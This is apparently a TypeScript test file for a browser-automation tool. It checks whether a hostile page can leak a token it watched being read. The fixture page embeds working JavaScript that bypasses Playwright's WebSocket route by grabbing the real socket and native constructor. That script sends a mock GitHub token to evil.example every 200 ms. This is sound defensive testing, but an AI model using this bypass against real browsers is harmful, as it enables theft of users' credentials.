// In the user's Chrome (no egress proxy) Playwright's WebSocket route is all that judges a page's sockets, and a page
// can reach the browser's own WebSocket behind it (the route's stand-in keeps the real socket on `_ws`). Found by an
// attack review: a page that opened a socket before a sensitive read sent what it saw on the real one after it, and
// took the native constructor from it to open fresh sockets carrying it in their URL, every 200 ms, none of it in
// the audit. No CDP hook can hold a WebSocket (Chromium 156); the tab's Network domain reports each handshake and
// message as it goes (browser/nativeSockets.ts): the first one past the route is in the audit as sent although
// refused, and the tab is stopped, so nothing more leaves. That first one is the residual (a todo test). Assertions
// on what the attacker's server received.

import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { WebSocketServer } from 'ws';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_zzSharedMockToken4242';

describe("the user's Chrome: a page's socket after a sensitive read", () => {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: InProcessBrowser | undefined;
  let mcp: InProcessMcp | undefined;
  const messages: { path: string; data: string }[] = [];
  const upgrades: string[] = [];
  const url = (host: string, path: string) => site.url(host, path);
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));

  before(async () => {
    site = await startFixture(
      {
        // The sensitive page tells its parent what it shows: the stand-in for a page that watched the read.
        '/settings/tokens': (_req, _body, res) =>
          html(
            res,
            `<title>Tokens</title><p id="t">${token}</p><script>parent.postMessage(document.getElementById('t').textContent, '*')</script>`,
          ),
        '/talking': (_req, _body, res) =>
          html(
            res,
            `<title>Talking</title><p>talking</p><script>
            const evil = location.origin.replace('https', 'wss').replace('news.example', 'evil.example');
            const socket = new WebSocket(evil + '/socket');
            let seen = '';
            addEventListener('message', (e) => { seen = e.data; });
            let raw, Native;
            socket.onopen = () => {
              socket.send('hello');
              // The mock opens before its real socket connects: take the real one once it is there.
              const grab = setInterval(() => { if (socket._ws) { raw = socket._ws; Native = raw.constructor; clearInterval(grab); } }, 10);
              // Only once the socket is open: then the sensitive page is framed (the read).
              setTimeout(() => {
                const f = document.createElement('iframe');
                f.src = ${JSON.stringify(url('github.com', '/settings/tokens'))};
                document.body.append(f);
              }, 300);
            };
            let n = 0;
            setInterval(() => {
              if (!seen) return;
              n++;
              try { raw.send('raw ' + n + ' ' + seen) } catch (e) {}
              try { new Native(evil + '/fresh?n=' + n + '&d=' + encodeURIComponent(seen)) } catch (e) {}
              if (n === 10) try { socket.send('mock ' + n + ' ' + seen) } catch (e) {}
            }, 200);
            </script>`,
          ),
        '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>the user’s page</p>'),
      },
      { tls: true },
    );
    const sockets = new WebSocketServer({ noServer: true });
    site.onUpgrade((req, socket, head) => {
      upgrades.push(`${req.headers.host} ${req.url}`);
      sockets.handleUpgrade(req, socket, head, (ws) =>
        ws.on('message', (data) =>
          messages.push({ path: `${req.headers.host} ${req.url}`, data: String(data) }),
        ),
      );
    });
    chrome = await startUserChrome({ chromeArgs: testChromeArgs, openTab: url('example.com', '/mine') });
  });
  after(async () => {
    await mcp?.close();
    await tabward?.close();
    await chrome?.close();
    await site?.close();
  });

  const leaks = () => [
    ...messages.filter((m) => m.data.includes(token)).map((m) => `${m.path}: ${m.data}`),
    ...upgrades.filter((line) => line.includes(token)),
  ];

  test('a page that reaches past the socket route after a sensitive read sends once at most: told, and its tab stopped', async () => {
    tabward = await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
    mcp = await tabward.connect();
    mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    const opened = await mcp.call('new_page', { url: url('news.example', '/talking') });
    assert.equal(opened.isError, false, opened.text);
    await waitFor('the socket says hello', () => messages.some((m) => m.data.startsWith('hello')), {
      timeoutMs: 20_000,
    });
    await quietly(4_000);
    // One tick of the page's loop (a message and a handshake) may leave before tabward sees it; nothing after.
    const leaked = leaks();
    assert.ok(leaked.length <= 2, `evil.example received ${leaked.length}: ${leaked.join(' | ')}`);
    const told = mcp
      .audit()
      .filter(
        (record) =>
          record.tool === '(egress)' &&
          'error' in record &&
          /sent although refused/.test(String(record.error)),
      );
    if (leaked.length > 0) assert.ok(told.length > 0, 'what left is not in the audit');
    const snapshot = await mcp.call('take_snapshot');
    if (leaked.length > 0) assert.match(snapshot.text, /crashed/, 'the tab that sent it was not stopped');
  });

  test('nothing a page saw after a sensitive read reaches another host over a WebSocket', {
    todo: "residual: in the user's Chrome the first message or handshake a page sends past the socket route leaves before tabward sees it (no CDP hook holds a WebSocket)",
  }, () => {
    assert.deepEqual(leaks(), [], 'the token read on github.com reached evil.example');
  });
});
